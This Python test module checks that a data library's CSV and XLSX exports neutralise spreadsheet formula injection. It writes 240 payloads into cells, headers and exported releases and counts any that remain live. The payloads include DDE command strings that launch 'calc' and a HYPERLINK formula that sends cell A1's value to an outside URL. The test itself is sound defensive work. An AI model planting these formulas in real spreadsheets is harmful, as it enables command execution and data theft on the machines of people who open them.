"""Formulas in texts: 240 payloads in cells and headers of csv and xlsx, and in a release exported."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook
from world import World

from gecam.database import Database
from gecam.estimation import estimate
from gecam.results import csv_bytes, xlsx_bytes

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
COMMANDS = (
    "cmd|'/C calc'!A0", "1+1", 'HYPERLINK("http://example.org?x="&A1,"open")', "SUM(1;1)",
    'WEBSERVICE("http://example.org")', "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
STARTS = ("", " ", "\t", "\n", "Sudan;")
PAYLOADS = [start + sign + command for sign in SIGNS for command in COMMANDS for start in STARTS]


def live(text: str) -> bool:
    """Whether a spreadsheet program would run a cell."""
    return text.lstrip(' \t\r\n\u00a0\u200b\ufeff"')[:1] in SIGNS


def live_in_csv(content: bytes) -> int:
    """Count live cells, whichever separator a program takes."""
    text = content.decode()
    return sum(
        live(cell)
        for delimiter in ",;\t|"
        for row in csv.reader(io.StringIO(text), delimiter=delimiter)
        for cell in row
    )


def live_in_xlsx(content: bytes) -> int:
    """Count cells that are formulas, links, or would be formulas when saved as CSV."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return sum(
        cell.data_type == "f"
        or cell.hyperlink is not None
        or (isinstance(cell.value, str) and live(cell.value))
        for cell in cells
    )


def run(template: Path, folder: Path, world: World, *, releases: int) -> dict:
    """Write every payload as a cell and as a header, and some through a release."""
    frame = pd.DataFrame({"id": PAYLOADS, "text": [f"{p} and more" for p in PAYLOADS]})
    headers = pd.DataFrame([range(len(PAYLOADS))], columns=PAYLOADS)
    found = {
        "csv": live_in_csv(csv_bytes(frame)) + live_in_csv(csv_bytes(headers)),
        "xlsx": live_in_xlsx(xlsx_bytes({"a": frame, "b": headers}, made_on=date(2024, 1, 1))),
    }
    db = Database(folder / "injected.gecam")
    exported = 0
    for i in range(releases):
        name, glide, title, reason = PAYLOADS[i * 40 : i * 40 + 40 : 10]  # 24 of them in full
        crises = tuple(replace(c, name=name, glide=glide) for c in world.case.crises)
        source = replace(world.case.stock.source, title=title, edition=reason)
        case = replace(world.case, crises=crises, stock=replace(world.case.stock, source=source))
        release = f"r{i}"
        db.release(estimate(case, draws=20, seed=1), name=release, reason=reason, case=case)
        for form in ("csv", "xlsx", "datapackage", "sdmx"):
            out = folder / f"{release}-{form}"
            db.export(release, out, format=form)
            exported += sum(live_in_csv(path.read_bytes()) for path in out.glob("*.csv"))
            exported += sum(live_in_xlsx(path.read_bytes()) for path in out.glob("*.xlsx"))
    # The same without the library, to see that the oracle finds them.
    text = io.StringIO()
    csv.writer(text).writerows([[payload] for payload in PAYLOADS])
    return {
        "payloads": len(PAYLOADS),
        "live": {**found, "exports": exported},
        "live_without_protection": live_in_csv(text.getvalue().encode()),
        "problems": [k for k, n in {**found, "exports": exported}.items() if n],
    }
